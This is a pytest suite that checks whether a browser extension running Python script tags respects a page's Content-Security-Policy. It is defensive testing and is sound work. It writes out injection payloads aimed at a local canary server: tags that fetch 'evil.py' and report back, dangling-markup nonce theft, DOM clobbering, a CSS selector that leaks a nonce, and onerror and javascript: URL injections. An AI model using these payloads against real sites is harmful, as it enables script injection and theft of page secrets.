"""Attackers who can put markup into a page with a Content-Security-Policy, or whose Python runs under one.

Whatever ran would have asked a *canary* server for something. Each page has a tag that the policy allows, so that it is
seen that Python was there, and nothing else ran.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.extension import document_states, tab_id
from tests.support.site import Site
from tests.support.tab import Tab
from tools.browser import install, launch
from tools.paths import BROWSERS

pytestmark = pytest.mark.timeout(180)

OPEN_TO_ALL = {"Access-Control-Allow-Origin": "*"}
NONCE = "script-src 'nonce-abc'"
STRICT = "script-src 'nonce-abc' 'strict-dynamic'"
LAST = '<script type="python" nonce="abc" id="last">print("the page\'s own tag ran")</script>'


@pytest.fixture
def canary() -> Iterator[Site]:
    """A server that answers everybody, and counts. Not asked for anything by the end of a test."""
    made = Site()
    made.add_python("/evil.py", f'window.fetch("{made.origin}/ran")', headers=OPEN_TO_ALL)
    made.add("/ran", "", "text/plain", headers=OPEN_TO_ALL)
    yield made
    made.close()


def attack(canary: Site) -> str:
    """Python that tells the canary that it ran."""
    return f'window.fetch("{canary.origin}/ran")'


def evil(canary: Site, name: str, attributes: str = "") -> str:
    """An inline tag of the attacker's."""
    return f'<script type="python" id="{name}" {attributes}>{attack(canary)}</script>'


def far(canary: Site, name: str, attributes: str = "") -> str:
    """A tag of the attacker's whose source is at the canary."""
    return f'<script type="python" id="{name}" src="{canary.origin}/evil.py" {attributes}></script>'


def page(tab: Tab, body: str, policy: str | list[str] = NONCE, head: str = "") -> str:
    """Open a page with a policy, and the page's own tag at its end; returns the URL."""
    html = f"<!doctype html><meta charset=utf-8>{head}<title>Attacked</title><body>{body}{LAST}</body>"
    return tab.open(html, headers={"Content-Security-Policy": policy})


def refused(tab: Tab) -> set[str]:
    """The ids of the tags that were not let run."""
    return {
        line.split('id "')[1].split('"')[0] for line in tab.printed if "did not run" in line and 'with the id "' in line
    }


def until_refused(tab: Tab, *names: str) -> None:
    """Wait until these tags were refused, and the page's own has run."""
    tab.until(lambda: set(names) <= refused(tab), f"a refusal of each of {names}")
    tab.until_printed("the page's own tag ran")


def test_the_canary_hears_of_python_that_runs(tab: Tab, canary: Site) -> None:
    """The attack would be noticed if it succeeded."""
    page(tab, evil(canary, "inline", 'nonce="abc"') + far(canary, "far", 'nonce="abc"'))
    tab.until(lambda: canary.asked("/ran") == 2, "two attacks")


def test_injected_tags_do_not_run(tab: Tab, canary: Site) -> None:
    """Markup without the nonce, with a wrong one, or from another host."""
    page(
        tab,
        evil(canary, "none")
        + evil(canary, "wrong", 'nonce="xyz"')
        + far(canary, "far")
        + far(canary, "async", "async"),
    )
    until_refused(tab, "none", "wrong", "far", "async")
    assert canary.requests == []


def test_one_header_that_denies_is_enough(tab: Tab, canary: Site) -> None:
    """Of two headers, the stricter counts, in any order."""
    page(tab, evil(canary, "second"), ["script-src 'unsafe-inline'", NONCE])
    until_refused(tab, "second")
    page(tab, evil(canary, "first"), [NONCE, "script-src 'unsafe-inline'"])
    until_refused(tab, "first")
    assert canary.requests == []


def test_a_policy_of_the_markup_is_neither_lifted_by_a_later_one_nor_by_its_removal(tab: Tab, canary: Site) -> None:
    """Metas add up; one that was removed stays in force."""
    meta = '<meta http-equiv="Content-Security-Policy" content="{}">'
    page(
        tab,
        evil(canary, "behind")
        + '<script nonce="abc">document.querySelector("meta[http-equiv]").remove();</script>'
        + evil(canary, "removed"),
        [],
        meta.format(NONCE) + meta.format("script-src * 'unsafe-inline'"),
    )
    until_refused(tab, "behind", "removed")
    assert canary.requests == []


def test_a_late_meta_governs_what_comes_after_it_alone(tab: Tab, canary: Site) -> None:
    """As for JavaScript, what stood before it has been allowed."""
    before = '<script type="python">print("the tag before it ran")</script>'
    meta = f'<meta http-equiv="Content-Security-Policy" content="{NONCE}">'
    tab.open(f"<!doctype html><head>{before}{meta}{evil(canary, 'after')}</head><body>{LAST}")
    until_refused(tab, "after")
    tab.until_printed("the tag before it ran")
    assert canary.requests == []


def test_what_was_checked_is_what_runs(tab: Tab, canary: Site) -> None:
    """Text or src that is changed after the tag was inserted changes nothing."""
    text = 'print("the text that was checked ran")'
    value = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
    tab.site.add_python("/checked.py", 'print("the src that was checked ran")')
    page(
        tab,
        f'<script type="python" id="text">{text}</script>'
        '<script type="python" id="src" src="/checked.py"></script>'
        f"""<script nonce="abc">
        const text = document.getElementById('text'), src = document.getElementById('src');
        text.textContent = {json.dumps(attack(canary))};
        src.src = {json.dumps(canary.origin + "/evil.py")};
        addEventListener('load', () => {{ text.text = {json.dumps(attack(canary))}; }});
        </script>""",
        f"script-src 'nonce-abc' 'self' 'sha256-{value}'",
    )
    tab.until_printed("the text that was checked ran")
    tab.until_printed("the src that was checked ran")
    tab.until_printed("the page's own tag ran")
    assert canary.requests == []


def test_markup_left_open_does_not_take_the_nonce_of_the_next_script(tab: Tab, canary: Site) -> None:
    """Dangling markup: the attacker's tag takes in the page's next one, its nonce included."""
    own = '<script nonce="abc">window.own = 1</script>'
    page(
        tab,
        f'<script type="python" id="name" src="{canary.origin}/evil.py" {own}'
        f'<script type="python" id="value" src="{canary.origin}/evil.py" x=\'{own}',
    )
    tab.until(lambda: "name" in refused(tab), "the refusal")
    assert canary.requests == []


#: How a script that has a nonce hands it on, or an attacker who knows it; `make(kind)` makes what says that it ran.
HANDED_ON = {
    "property": "const s = make(kind); s.nonce = own.nonce; document.body.append(s)",
    "attribute": "const s = make(kind); s.setAttribute('nonce', own.nonce); document.body.append(s)",
    "attribute, read as one": "const s = make(kind); s.setAttribute('nonce', own.getAttribute('nonce')); document.body.append(s)",
    "property, too late": "const s = make(kind); document.body.append(s); s.nonce = own.nonce",
    "markup": "document.body.insertAdjacentHTML('beforeend', withNonce(make(kind), own.nonce))",
    "written": "document.write(withNonce(make(kind), own.nonce))",
    "the markup of the script itself": "document.write(withNonce(make(kind), own.outerHTML.match(/nonce=.([a-z]*)/)[1]))",
    "copied": "const s = make(kind); s.nonce = own.nonce; document.body.append(s.cloneNode(true))",
}
HAND_ON = """<script nonce="abc">
const own = document.currentScript;
window.ran = [];
const withNonce = (made, nonce) => { made.setAttribute('nonce', nonce); return made.outerHTML; };
for (const [name, way] of Object.entries(WAYS)) {
  for (const kind of ['text/javascript', 'python']) {
    const make = () => Object.assign(document.createElement('script'), {
      type: kind, text: kind === 'python' ? `print('handed on: ${name}')` : `ran.push('${name}')`,
    });
    new Function('make', 'kind', 'own', 'withNonce', way)(make, kind, own, withNonce);
  }
}
</script>"""


#: A tag is seen when the script that inserted it is done; what that script has set meanwhile counts as set before.
LATE = "property, too late"


def test_a_nonce_that_is_handed_on_is_worth_what_it_is_worth_for_javascript(tab: Tab) -> None:
    """Of each way, JavaScript that is inserted so is the measure, in the same page."""
    body = HAND_ON.replace("WAYS", json.dumps(HANDED_ON).replace("</", "<\\/"))
    page(tab, body, f"{NONCE} 'unsafe-eval'")
    tab.until_printed("the page's own tag ran")
    ran = tab.js("return ran")
    assert {"property", "written"} <= {*ran} < {*HANDED_ON}
    told = [*ran, LATE]
    tab.until(lambda: len([line for line in tab.printed if "handed on: " in line]) >= len(told), f"{told} of Python")
    tab.python("print('the next page')")
    python = [
        line.removeprefix("handed on: ") for line in tab.session.text_of_console() if line.startswith("handed on: ")
    ]
    assert sorted(python) == sorted(told)


def test_styles_cannot_read_the_nonce_of_a_python_tag(tab: Tab, canary: Site) -> None:
    """The browser hides the attribute, and Adder does not bring it back."""
    style = f'<style>script[nonce^="a"] {{ display: block; background: url({canary.origin}/read) }}</style>'
    page(tab, style)
    tab.until_printed("the page's own tag ran")
    assert tab.js("return document.getElementById('last').getAttribute('nonce')") == ""
    assert canary.requests == []


def test_a_redirect_leads_to_no_host_that_is_not_allowed(tab: Tab, canary: Site) -> None:
    """Not even a request goes there."""
    tab.site.add("/open.py", "", status=302, headers={"Location": canary.origin + "/evil.py"})
    tab.site.add("/twice.py", "", status=302, headers={"Location": "/open.py"})
    page(
        tab,
        '<script type="python" id="once" src="/open.py"></script>'
        '<script type="python" id="twice" src="/twice.py"></script>',
        "script-src 'self' 'nonce-abc'",
    )
    until_refused(tab, "once", "twice")
    assert canary.requests == []


def test_markup_that_a_script_inserts_is_not_what_strict_dynamic_trusts(tab: Tab, canary: Site) -> None:
    """innerHTML and document.write are how markup gets injected; only elements that a script made are trusted."""
    page(tab, "<div id=box></div>", STRICT)
    tab.until_printed("the page's own tag ran")
    html = (
        evil(canary, "inline") + far(canary, "far") + evil(canary, "async", "async") + far(canary, "far-async", "async")
    )
    tab.js("document.getElementById('box').innerHTML = arguments[0]", html)
    tab.until(lambda: {"async", "far-async"} <= refused(tab), "two refusals")
    # Without `async`, Chromium's detector knows markup by its looks; in Firefox the browser itself is asked.
    if tab.browser == "firefox":
        tab.until(lambda: "inline" in refused(tab), "a third one")
    else:
        assert sum("inserted as markup" in line for line in tab.printed) == 2
    tab.js("document.write(arguments[0] + '<p id=written>'); document.close()", html + LAST)
    tab.until(lambda: tab.printed.count("the page's own tag ran") == 2, "the page's own tag, written anew")
    assert canary.requests == []


def test_elements_named_like_the_browsers_own_functions_change_nothing(tab: Tab, canary: Site) -> None:
    """DOM clobbering: names that markup may give to elements of the document."""
    names = ("readyState", "createElement", "documentElement", "querySelector", "getElementsByTagName", "head", "body")
    clobber = "".join(
        f'<img name="{name}"><form name="{name}" id="{name}"></form>' for name in (*names, "adderTags", "chrome")
    )
    inner = '<form><input name="attributes"><input name="querySelectorAll"><input name="getElementsByTagName">{}</form>'
    body = (
        clobber + inner.format(evil(canary, "inside")) + evil(canary, "inline", "async") + far(canary, "far", "async")
    )
    page(tab, body, STRICT)
    tab.until(lambda: {"inside", "inline", "far"} <= refused(tab), "the refusals")
    assert canary.requests == []


SERVICE_WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (!event.request.url.endsWith('/made-here')) return;
  event.respondWith(new Response(BODY, { headers: {
    'Content-Type': 'text/html', 'Content-Security-Policy': POLICY,
  } }));
});
"""


@pytest.mark.parametrize("policy", [NONCE, STRICT], ids=["nonce", "strict-dynamic"])
def test_the_policy_of_a_page_that_its_service_worker_made_holds(tab: Tab, canary: Site, policy: str) -> None:
    """No extension sees the headers of such a page: the browser is asked, and what it cannot say is no."""
    folder = f"/worker-{len(policy)}"
    body = evil(canary, "inline") + far(canary, "far") + evil(canary, "async", "async") + LAST
    script = f"const BODY = {json.dumps(body)}, POLICY = {json.dumps(policy)};{SERVICE_WORKER}"
    tab.site.add(f"{folder}/sw.js", script, "text/javascript")
    tab.site.add(f"{folder}/made-here", evil(canary, "network"))
    tab.open(
        "<script>navigator.serviceWorker.register('sw.js').then(() => navigator.serviceWorker.ready)"
        ".then(() => { document.title = 'ready'; })</script>",
        path=f"{folder}/start",
    )
    tab.until(lambda: tab.driver.title == "ready", "the service worker")
    tab.go(f"{tab.site.origin}{folder}/made-here")
    until_refused(tab, "inline", "far", "async")
    assert tab.site.asked(f"{folder}/made-here") == 0
    assert canary.requests == []


META = '<meta http-equiv="Content-Security-Policy" content="{}">'
REQUIRED = "script-src 'none'"
#: What attackers put into a page that its browser alone knows a policy for: heads, with how often they would be heard.
UNSEEN = {
    "inline": lambda canary: evil(canary, "inline"),
    "src": lambda canary: far(canary, "src"),
    "inline and a policy": lambda canary: META.format("img-src 'self'") + evil(canary, "inline"),
    "src and a policy": lambda canary: META.format("script-src *; img-src 'self'") + far(canary, "src"),
    "before a policy that forbids it too": lambda canary: evil(canary, "before") + META.format("script-src 'none'"),
    "behind trusted types": lambda canary: META.format("require-trusted-types-for 'script'") + evil(canary, "behind"),
}


@pytest.mark.parametrize("place", ["src", "srcdoc"])
@pytest.mark.parametrize("name", UNSEEN)
def test_a_policy_that_a_frame_requires_holds(tab: Tab, canary: Site, name: str, place: str) -> None:
    """What a page requires of its frame is in no header of the frame's response, and in no markup of the frame's."""
    if tab.browser == "firefox":
        pytest.skip("Firefox does not know the attribute csp of frames")
    framed = f"<!doctype html><head>{UNSEEN[name](canary)}<title>Framed</title>"
    tab.site.add("/framed.html", framed, headers={"Allow-CSP-From": "*"})
    document = "src=/framed.html" if place == "src" else f"srcdoc='{framed.replace(chr(39), '&#39;')}'"
    body = f"<!doctype html><title>Attacked</title><iframe {{}} {document}></iframe>{LAST}"
    tab.open(body.format(""))
    tab.until(lambda: canary.asked("/ran"), "the attack, where nothing is required")
    canary.requests.clear()
    tab.open(body.format(f'csp="{REQUIRED}"'))
    tab.until(lambda: refused(tab), "a refusal")
    tab.until_printed("the page's own tag ran")
    assert canary.requests == []


#: Another extension that adds a policy to pages, as each browser lets it.
STRICTER = {
    "chromium": {
        "manifest.json": {
            "manifest_version": 3,
            "name": "Stricter",
            "version": "1",
            "permissions": ["declarativeNetRequest"],
            "host_permissions": ["<all_urls>"],
            "declarative_net_request": {"rule_resources": [{"id": "rules", "enabled": True, "path": "rules.json"}]},
        },
        "rules.json": [
            {
                "id": 1,
                "condition": {"urlFilter": "/guarded/", "resourceTypes": ["main_frame"]},
                "action": {
                    "type": "modifyHeaders",
                    "responseHeaders": [
                        {"header": "Content-Security-Policy", "operation": "append", "value": REQUIRED}
                    ],
                },
            }
        ],
    },
    "firefox": {
        "manifest.json": {
            "manifest_version": 2,
            "name": "Stricter",
            "version": "1",
            "browser_specific_settings": {"gecko": {"id": "stricter@example.org"}},
            "permissions": ["webRequest", "webRequestBlocking", "<all_urls>"],
            "background": {"scripts": ["background.js"]},
        },
        "background.js": """browser.webRequest.onHeadersReceived.addListener(({ url, responseHeaders }) => {
          if (!url.includes('/guarded/')) return {};
          return { responseHeaders: [...responseHeaders, { name: 'Content-Security-Policy', value: POLICY }] };
        }, { urls: ['<all_urls>'], types: ['main_frame'] }, ['blocking', 'responseHeaders']);
        """.replace("POLICY", json.dumps(REQUIRED)),
    },
}


@pytest.fixture(params=BROWSERS)
def guarded(request: pytest.FixtureRequest, extensions: Path, site: Site, tmp_path: Path) -> Iterator[Tab]:
    """A tab in a browser that has the other extension too."""
    browser = request.param
    for name, content in STRICTER[browser].items():
        (tmp_path / name).write_text(content if isinstance(content, str) else json.dumps(content))
    both = [f"--load-extension={(extensions / browser).resolve()},{tmp_path}"] if browser == "chromium" else []
    with launch(browser, extensions / browser, arguments=both) as running:
        if browser == "firefox":
            install(running.driver, browser, "", tmp_path)
        running.decide(site.origin, "allow")
        yield Tab(running, site)


def test_a_policy_that_another_extension_adds_holds(guarded: Tab, canary: Site, record_property) -> None:
    """It is the browser's, and so it is Python's: wherever the page's own policies would let a tag run."""
    guarded.site.add("/guarded/probe.html", "<!doctype html><title>Probe</title><script>window.ran = 1</script>")

    def is_guarded() -> bool:
        guarded.go(guarded.site.origin + "/guarded/probe.html")
        return guarded.js("return window.ran ?? 0") == 0

    guarded.until(is_guarded, "the other extension")
    for number, (name, head) in enumerate(UNSEEN.items()):
        record_property("case", name)
        body = f"<!doctype html><head>{head(canary)}<title>Attacked</title>"
        guarded.open(body)
        guarded.until(lambda: canary.asked("/ran"), f"{name}, where nothing is added")
        canary.requests.clear()
        guarded.open(body, path=f"/guarded/{number}.html")
        guarded.until(lambda: refused(guarded), f"a refusal of {name}")
        assert canary.requests == []


def test_a_page_that_may_not_run_scripts_runs_no_python(tab: Tab, canary: Site) -> None:
    """Sandboxed by its header, or in a frame that is, with its origin left to it."""
    tags = evil(canary, "inline") + far(canary, "far")
    tab.open(tags, headers={"Content-Security-Policy": "sandbox allow-same-origin"})
    tab.site.add("/framed.html", tags)
    page(
        tab,
        '<iframe sandbox="allow-same-origin" src="/framed.html"></iframe><iframe sandbox src="/framed.html"></iframe>'
        f"<iframe sandbox='allow-same-origin' srcdoc='{evil(canary, 'srcdoc')}'></iframe>",
        "script-src 'unsafe-inline' *",
    )
    tab.until_printed("the page's own tag ran")
    assert canary.requests == []


INSERTING = """
from web import document, window
def attempt(name, what):
    try:
        what()
    except Exception as error:
        print("attempt", name, type(error).__name__)
    else:
        print("attempt", name, "passed")
code = CODE
def script():
    element = document.createElement("script")
    element.textContent = code
    document.body.append(element)
def source():
    element = document.createElement("script")
    element.src = SOURCE
    document.body.append(element)
def handler():
    document.body.setAttribute("onclick", code)
    document.body.click()
def markup():
    document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='" + code + "'>")
def link():
    element = document.createElement("a")
    element.href = "javascript:" + code
    document.body.append(element)
    element.click()
for what in (script, source, handler, markup, link, lambda: window.eval(code), lambda: window.Function(code)()):
    attempt(getattr(what, "__name__"), what)
print("python's own", eval("1 + 1"))
print("all attempts made")
"""


def test_python_gets_no_javascript_past_the_policy(tab: Tab, canary: Site) -> None:
    """What Python inserts is the browser's to judge: script elements, handlers, javascript: URLs, eval."""
    canary.add("/evil.js", f"fetch('{canary.origin}/ran')", "text/javascript", headers=OPEN_TO_ALL)
    code = f"fetch(`{canary.origin}/ran`)"
    text = INSERTING.replace("CODE", repr(code)).replace("SOURCE", repr(canary.origin + "/evil.js"))
    page(tab, f'<script type="python" nonce="abc">{text}</script>')
    tab.until_printed("all attempts made")
    tab.until_printed("the page's own tag ran")
    assert canary.requests == []
    assert "python's own 2" in tab.printed
    assert [line for line in tab.printed if line.startswith("attempt <lambda>")] == ["attempt <lambda> JSError"] * 2


def test_trusted_types_hold_for_python(tab: Tab, canary: Site) -> None:
    """A page that requires them takes no text from Python where it takes none from JavaScript."""
    text = """
from web import document
box = document.querySelector("#box")
for name in ("inner_html", "outer_html"):
    try:
        setattr(box, name, "<b>bold</b>")
        print(name, "passed")
    except TypeError as error:
        print(name, "refused")
    except Exception as error:
        print(name, "refused:", type(error).__name__)
try:
    box.html = "<b>bold</b>"
except Exception as error:
    print("html refused")
print("bold:", document.querySelector("b") is None)
"""
    policy = NONCE + "; require-trusted-types-for 'script'"
    page(tab, f'<div id="box"></div><script type="python" nonce="abc">{text}</script>' + evil(canary, "none"), policy)
    until_refused(tab, "none")
    said = [line for line in tab.printed if "refused" in line or "passed" in line or line.startswith("bold")]
    assert [line.split()[1][:7] for line in said] == ["refused", "refused", "refused", "True"]
    assert canary.requests == []


def test_a_refusal_is_told_to_the_element_the_console_and_the_popup(tab: Tab, canary: Site) -> None:
    """The element gets `error`; the console names directive and policy."""
    listen = (
        '<script nonce="abc">addEventListener("error", (event) => { window.fired = event.target.id }, true)</script>'
    )
    url = page(tab, listen + evil(canary, "told"))
    until_refused(tab, "told")
    tab.until(lambda: tab.js("return window.fired") == "told", "the error event")
    message = tab.until_message("the Python tag", "error").text
    assert "it violates the directive \"script-src 'nonce-abc'\" of the page's Content-Security-Policy" in message
    shape = json.loads(message.partition("securitypolicyviolation ")[2])
    assert shape["blockedURI"] == "inline"
    assert shape["effectiveDirective"] == "script-src-elem"
    assert [shape["originalPolicy"], shape["source"], shape["disposition"]] == [NONCE, "header", "enforce"]
    assert canary.requests == []

    def is_shown(url: str, state: str) -> bool:
        documents = document_states(tab.session, tab_id(tab.session, url))
        return [(each["state"], each["reason"]) for each in documents] == [(state, reason)]

    reason = "The page's own Content-Security-Policy forbids some of its Python: script-src 'nonce-abc'"
    tab.until(lambda: is_shown(url, "running"), "its state, beside what it was refused")
    url = tab.open(evil(canary, "alone"), headers={"Content-Security-Policy": NONCE})
    tab.until(lambda: "alone" in refused(tab), "the refusal")
    tab.until(lambda: is_shown(url, "error"), "its state")
    assert canary.requests == []
